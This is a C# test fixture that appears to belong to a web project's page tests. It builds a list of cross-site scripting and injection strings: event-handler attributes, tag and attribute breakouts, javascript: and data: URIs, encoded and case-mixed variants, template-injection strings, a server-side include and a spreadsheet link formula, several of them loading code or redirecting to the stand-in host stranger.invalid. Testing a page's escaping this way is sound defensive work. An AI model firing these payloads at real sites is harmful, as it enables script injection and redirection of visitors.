namespace Isnad.Web.Tests.Pages;

/// <summary>Texts that try to become elements, scripts, styles or addresses.</summary>
internal static class Payloads
{
    private const string Run = "window.stranger=1;alert(1)";

    private static readonly string[] Elements =
    [
        "img src=x", "svg", "video src=x", "audio src=x", "iframe", "object data=x", "embed src=x", "input autofocus", "select autofocus", "textarea autofocus", "button autofocus",
        "details open", "body", "marquee", "a href=# autofocus tabindex=0", "form", "table background=x", "div contenteditable autofocus", "math", "style", "link rel=stylesheet href=x", "keygen autofocus",
    ];

    private static readonly string[] Events = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerenter", "onbegin"];

    private static readonly string[] Breakouts = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "&quot;>", "</svg>", "\u2028", "\u202E"];

    private static readonly string[] Cores =
    [
        $"<script>{Run}</script>", $"<ScRiPt>{Run}</sCrIpT>", $"<script src=//stranger.invalid/x.js></script>", $"<img data-stranger src=//stranger.invalid/x.png>", $"<base href=//stranger.invalid/>",
        $"<meta http-equiv=refresh content='0;url=//stranger.invalid/'>", "<link rel=stylesheet href=//stranger.invalid/x.css>", "<style>@import'//stranger.invalid/x.css';</style>", "<form action=//stranger.invalid><button autofocus>x",
        $"<iframe srcdoc='<script>{Run}</script>'></iframe>", "<object data='data:text/html,<script>alert(1)</script>'></object>",
    ];

    private static readonly string[] Others =
    [
        $"javascript:{Run}", $"JaVaScRiPt:{Run}", $"java\tscript:{Run}", $"\u0001javascript:{Run}", $"data:text/html,<script>{Run}</script>", $"vbscript:{Run}", $"//stranger.invalid/x", $"https://stranger.invalid/\" onmouseover={Run} x=\"",
        $"\" onfocus={Run} autofocus x=\"", $"' onfocus={Run} autofocus x='", $"` onfocus={Run} autofocus", $"{{{{constructor.constructor('{Run}')()}}}}", $"${{{Run}}}", $"<%= {Run} %>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x", "@(alert(1))", "<!--#exec cmd=x-->", "=HYPERLINK(\"//stranger.invalid\")",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. Elements.SelectMany(element => Events.Select(name => $"<{element} data-stranger {name}=\"{Run}\">")),
        .. Breakouts.SelectMany(breakout => Cores.Select(core => breakout + core)),
        .. Others,
    ];
}
